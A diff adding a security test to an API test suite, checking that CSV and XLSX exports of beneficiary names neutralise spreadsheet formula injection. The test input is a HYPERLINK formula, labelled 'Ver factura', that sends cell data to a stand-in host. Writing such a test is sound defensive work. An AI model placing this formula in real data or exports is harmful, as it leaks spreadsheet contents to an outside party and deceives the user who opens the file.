@@ -285,3 +285,26 @@ describe('bank accounts (spec: listed by client, only accounts whose bank belong
     expect((await call('GET', `${base(accountDef)}/findByIdBank/${theirs.id}`)).statusCode).toBe(404);
   });
 });
+
+describe('exports a spreadsheet opens (OWASP: CSV injection)', () => {
+  it('writes a name typed as a formula as text, in CSV and in XLSX', async () => {
+    const def = resourceNamed('beneficiary');
+    const formula = '=HYPERLINK("http://x.example/robar?d="&A1,"Ver factura")';
+    const created = await call('POST', `${base(def)}/create`, {
+      code: 'J-30999888-1',
+      name: formula,
+      active: true,
+    });
+    expect(created.statusCode).toBe(200);
+    const csv = await call('GET', `${base(def)}/export?format=csv`);
+    const line = csv.body.split('\r\n').find((l) => l.startsWith('J-30999888-1;'));
+    expect(line).toContain(`;"'${formula.replaceAll('"', '""')}";`);
+    const xlsx = await call('GET', `${base(def)}/export?format=xlsx`);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const values: unknown[] = [];
+    book.worksheets[0]?.eachRow((row) => values.push(row.getCell(2).value));
+    // A plain string cell (a formula would be an object with `formula`).
+    expect(values).toContain(formula);
+  });
+});
